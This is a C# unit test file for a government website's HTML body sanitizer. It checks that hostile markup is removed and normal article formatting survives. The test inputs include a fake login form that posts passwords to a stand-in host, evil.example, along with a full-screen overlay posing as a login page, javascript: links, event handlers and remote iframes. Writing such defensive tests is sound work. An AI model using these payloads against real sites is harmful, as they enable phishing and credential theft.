using Governance.Workflows.Definitions.ContentReview;

namespace Governance.Tests.Security;

/// <summary>The W2 body sanitizer keeps what government articles need and nothing that can take over the page.</summary>
public sealed class ContentHtmlSanitizerTests
{
    [Fact]
    public void Form_WithPasswordField_IsRemovedWithItsContent()
    {
        const string hostile = "<p>通知</p><form action=\"https://evil.example/steal\" method=\"post\"><p>会话已过期，请重新登录</p>"
            + "<input type=\"password\" name=\"pw\"><button type=\"submit\">登录</button></form>";
        Assert.Equal("<p>通知</p>", ContentHtml.Sanitize(hostile));
    }

    [Fact]
    public void FixedOverlay_LosesPositioningAndZIndex()
    {
        const string hostile = "<div style=\"position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:#fff\">假冒登录页</div>";
        // The background shorthand is reduced to the allowed background-color; nothing positions the block any more.
        Assert.Equal("<div style=\"background-color: rgba(255, 255, 255, 1)\">假冒登录页</div>", ContentHtml.Sanitize(hostile));
    }

    [Theory]
    [InlineData("<p style=\"margin-top:-500px\">上移</p>", "<p>上移</p>")]
    [InlineData("<p style=\"transform:translateY(-200px)\">平移</p>", "<p>平移</p>")]
    [InlineData("<p style=\"position:absolute;top:0\">定位</p>", "<p>定位</p>")]
    [InlineData("<p style=\"display:none\">隐藏</p>", "<p>隐藏</p>")]
    [InlineData("<p style=\"opacity:0\">透明</p>", "<p>透明</p>")]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe><p>正文</p>", "<p>正文</p>")]
    [InlineData("<object data=\"x.swf\"></object><embed src=\"x.swf\"><p>正文</p>", "<p>正文</p>")]
    [InlineData("<style>header{display:none}</style><p>正文</p>", "<p>正文</p>")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/a.css\"><base href=\"https://evil.example/\"><p>正文</p>", "<p>正文</p>")]
    [InlineData("<svg><a href=\"https://evil.example\"><text>点我</text></a></svg><p>正文</p>", "<p>正文</p>")]
    [InlineData("<select><option>甲</option></select><textarea>乙</textarea><p>正文</p>", "<p>正文</p>")]
    [InlineData("<p id=\"content-body\" name=\"x\">覆盖</p>", "<p>覆盖</p>")]
    [InlineData("<a href=\"javascript:alert(1)\">链接</a>", "<a>链接</a>")]
    [InlineData("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\" alt=\"图\">", "<img alt=\"图\">")]
    [InlineData("<p class=\"ql-align-center mud-appbar fixed\">居中</p>", "<p class=\"ql-align-center\">居中</p>")]
    [InlineData("<p onclick=\"alert(1)\" onmouseover=\"x()\">点击</p>", "<p>点击</p>")]
    public void HostileMarkup_IsStripped(string html, string expected) => Assert.Equal(expected, ContentHtml.Sanitize(html));

    [Theory]
    [InlineData("<h2>一、总体要求</h2><p>正文</p>")]
    [InlineData("<p><strong>粗体</strong><b>粗</b><em>斜体</em><i>斜</i><u>下划线</u><s>删除</s><sub>下</sub><sup>上</sup><br></p>")]
    [InlineData("<ol><li>第一条</li></ol><ul><li>要点</li></ul>")]
    [InlineData("<blockquote>引文</blockquote><hr>")]
    [InlineData("<table><caption>表一</caption><thead><tr><th>项目</th><th>金额</th></tr></thead><tbody><tr><td colspan=\"2\" rowspan=\"1\">合计</td></tr></tbody></table>")]
    [InlineData("<p><a href=\"https://www.gov.cn/zhengce/\" title=\"中国政府网\">政策</a></p>")]
    [InlineData("<p><a href=\"/content/12\">本站</a><a href=\"mailto:xxgk@fufeng.gov.cn\">邮箱</a></p>")]
    [InlineData("<p><img src=\"https://www.fufeng.gov.cn/images/a.png\" alt=\"示意图\" width=\"300\" height=\"200\"></p>")]
    [InlineData("<p class=\"ql-indent-1\"><span class=\"ql-size-large\">缩进</span></p>")]
    public void ArticleMarkup_IsKeptAsIs(string html) => Assert.Equal(html, ContentHtml.Sanitize(html));

    [Theory]
    [InlineData("<p style=\"text-align: center\">居中</p>")]
    [InlineData("<p style=\"text-indent: 2em; line-height: 1.8\">首行缩进</p>")]
    [InlineData("<span style=\"font-size: 18px\">大字</span>")]
    [InlineData("<span style=\"font-weight: bold; font-style: italic; text-decoration-line: underline\">强调</span>")]
    [InlineData("<table><tbody><tr><td style=\"vertical-align: middle\">格</td></tr></tbody></table>")]
    public void ArticleStyles_AreKept(string html) => Assert.Equal(html, ContentHtml.Sanitize(html));

    [Fact]
    public void Colours_AreKept()
    {
        var html = ContentHtml.Sanitize("<span style=\"color: #cc0000; background-color: #ffff00\">标红</span>");
        Assert.Equal("<span style=\"color: rgba(204, 0, 0, 1); background-color: rgba(255, 255, 0, 1)\">标红</span>", html);
    }

    [Fact]
    public void LinkOpeningANewWindow_GetsNoopener()
    {
        var html = ContentHtml.Sanitize("<a href=\"https://www.gov.cn/\" target=\"_blank\">政府网</a>");
        Assert.Equal("<a href=\"https://www.gov.cn/\" target=\"_blank\" rel=\"noopener noreferrer\">政府网</a>", html);
    }
}
